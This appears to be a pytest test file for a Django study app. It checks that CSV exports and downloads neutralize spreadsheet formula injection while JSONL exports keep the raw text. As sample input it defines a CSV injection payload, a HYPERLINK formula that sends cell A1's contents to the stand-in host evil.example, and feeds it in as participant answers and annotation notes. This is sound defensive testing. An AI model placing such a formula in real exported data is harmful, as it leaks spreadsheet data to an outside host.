"""CSV exports and downloads cannot carry spreadsheet formulas; the raw text stays available."""
from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st

from spotlight_study.annotation.services.labels import LabelInput, label_save
from spotlight_study.annotation.services.queue import assignment_next
from spotlight_study.csvsafe import (
    TRIGGERS,
    SafeDictWriter,
    neutralize,
    unneutralize,
    unneutralize_if_marked,
)
from spotlight_study.participation.models import Participant

from ..annotation.conftest import make_user
from ..conftest import Walker
from .flow import complete

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "'"])
def test_text_beginning_with_a_trigger_gets_a_quote(first):
    """A text cell beginning with = + - @ tab CR or ' gets one ' in front."""
    assert neutralize(first + "SUM(A1)") == "'" + first + "SUM(A1)"


@pytest.mark.parametrize("value", [-3, -0.25, 7, True, None, "", "plain", " =not first", "a=b"])
def test_numbers_and_harmless_text_are_unchanged(value):
    """Numbers (negative too), booleans, empty cells and text not beginning with a trigger stay."""
    assert neutralize(value) == value


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list(TRIGGERS) + list("ab1 \n\"")), max_size=8) | st.text(max_size=20))
def test_undo_gives_back_the_original_exactly(text):
    """unneutralize(neutralize(s)) == s, and a neutralized cell never begins with a trigger but '."""
    safe = neutralize(text)
    assert unneutralize(safe) == text
    assert not safe.startswith(TRIGGERS[:-1])


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list(TRIGGERS) + list("ab1 \n\"")), max_size=8) | st.text(max_size=20))
def test_the_marked_undo_also_gives_back_the_original(text):
    """unneutralize_if_marked undoes neutralize exactly, as unneutralize does."""
    assert unneutralize_if_marked(neutralize(text)) == text


def test_the_marked_undo_leaves_a_hand_typed_quote_alone():
    """A leading ' that neutralize never writes (not followed by a trigger) is kept."""
    assert unneutralize_if_marked("'hello") == "'hello"
    assert unneutralize_if_marked("'-Z4AM") == "-Z4AM"
    assert unneutralize_if_marked("''quoted") == "'quoted"
    assert unneutralize_if_marked("plain") == "plain"


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=15), min_size=1, max_size=4))
def test_a_written_and_read_back_row_round_trips(values):
    """Cells written by SafeDictWriter read back with the csv module and undone equal the input."""
    names = [f"c{i}" for i in range(len(values))]
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, fieldnames=names)
    writer.writeheader()
    writer.writerow(dict(zip(names, values)))
    (row,) = _rows(buffer.getvalue())
    assert [unneutralize(row[n]) for n in names] == values


@pytest.mark.django_db
def test_export_results_neutralizes_answers_and_comments_and_jsonl_keeps_raw(demo_study, tmp_path):
    """responses.csv and participants.csv quote formula cells; --jsonl keeps the raw text."""
    w = Walker(Client(), demo_study.slug)
    complete(w, answers=(FORMULA, "@SUM(1+1) group 2 is wheat"), comment="-2+3 fine")
    assert Participant.objects.get().status == Participant.Status.COMPLETED
    call_command("export_results", demo_study.slug, "--out", str(tmp_path), "--jsonl")
    responses = _rows((tmp_path / "responses.csv").read_text(encoding="utf-8"))
    answers = {r["answer"] for r in responses}
    assert "'" + FORMULA in answers and "'@SUM(1+1) group 2 is wheat" in answers
    assert not any(r["answer"].startswith(("=", "@", "+", "-")) for r in responses)
    assert all(r["time_on_task_ms"].isdigit() for r in responses)  # numbers are left alone
    (person,) = _rows((tmp_path / "participants.csv").read_text(encoding="utf-8"))
    assert person["comment"] == "'-2+3 fine"
    raw = [json.loads(line) for line in (tmp_path / "responses.jsonl").read_text().splitlines()]
    assert {r["answer"] for r in raw} >= {FORMULA, "@SUM(1+1) group 2 is wheat"}
    assert all(isinstance(r["time_on_task_ms"], int) for r in raw)
    (raw_person,) = [json.loads(x) for x in (tmp_path / "participants.jsonl").read_text().splitlines()]
    assert raw_person["comment"] == "-2+3 fine"
    assert (tmp_path / "survey.jsonl").exists()


@pytest.mark.django_db
def test_annotation_downloads_neutralize_notes_and_tags(demo_study, settings):
    """The researcher's annotations.csv and final_labels.csv downloads quote formula notes/tags."""
    complete(Walker(Client(), demo_study.slug))
    demo_study.annotators_per_item = 1
    demo_study.save()
    annotator = make_user("ann-csv", "annotators")
    while (item := assignment_next(study=demo_study, annotator=annotator)) is not None:
        label_save(
            study=demo_study,
            annotator=annotator,
            public_id=item.public_id,
            label=LabelInput(
                identified=True, surface_difference=False, no_difference=False,
                exclusion="other", exclusion_note=FORMULA, new_tags=["+cmd tag"], tags=[],
            ),
        )
    staff = Client()
    staff.force_login(make_user("boss", staff=True))
    for name in ("annotations", "final_labels"):
        response = staff.get(f"/annotate/{demo_study.slug}/export/{name}.csv")
        assert response.status_code == 200
        text = response.content.decode()
        assert "'" + FORMULA.replace('"', '""') in text
        assert "'+cmd tag" in text
        for row in _rows(text):
            assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())
